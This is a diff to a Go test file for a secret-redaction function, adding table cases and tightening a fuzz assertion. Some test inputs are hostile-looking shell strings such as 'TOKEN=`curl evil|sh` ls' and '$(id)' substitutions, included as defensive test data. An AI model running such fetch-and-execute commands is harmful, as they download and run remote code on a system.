@@ -83,6 +83,9 @@ func TestSecrets(t *testing.T) {
 		"words that are no secrets":   {"token: str, password=None, secret = true", "token: str, password=None, secret = true"},
 		"a call is code":              {"token = fetch_token(url)", "token = fetch_token(url)"},
 		"what a shell would run":      {"TOKEN=$(curl evil|sh) ls", "TOKEN=$(curl evil|sh) ls"},
+		"backquotes":                  {"TOKEN=`curl evil|sh` ls, see token: `abc9`", "TOKEN=`curl evil|sh` ls, see token: `[hidden]`"},
+		"quotes of the shell":         {"TOKEN=$'a b' ls", "TOKEN=$'[hidden]' ls"},
+		"much escaped":                {`{\\\\\"password\\\\\": \\\\\"a\\\\\", }`, `{\\\\\"password\\\\\": \\\\\"[hidden]\\\\\", }`},
 		"literal around it":           {"TOKEN=\"abc$(id)def\"", "TOKEN=\"[hidden]$(id)[hidden]\""},
 		"secret within it":            {"TOKEN=\"$(x --password hunter2)\"", "TOKEN=\"$(x --password [hidden])\""},
 		"not in single quotes":        {"TOKEN='abc$(id)def'", "TOKEN='[hidden]'"},
@@ -267,8 +270,9 @@ func FuzzRedact(f *testing.F) {
 	r := redact.New()
 	f.Fuzz(func(t *testing.T, s string) {
 		got, hidden := redact.Secrets(s)
-		require.Equal(t, hidden, got != s || strings.Contains(s, redact.Marker) && hidden)
-		if !hidden {
+		if hidden {
+			require.Contains(t, got, redact.Marker)
+		} else {
 			require.Equal(t, s, got)
 		}
 		text := r.Text(s, 100)
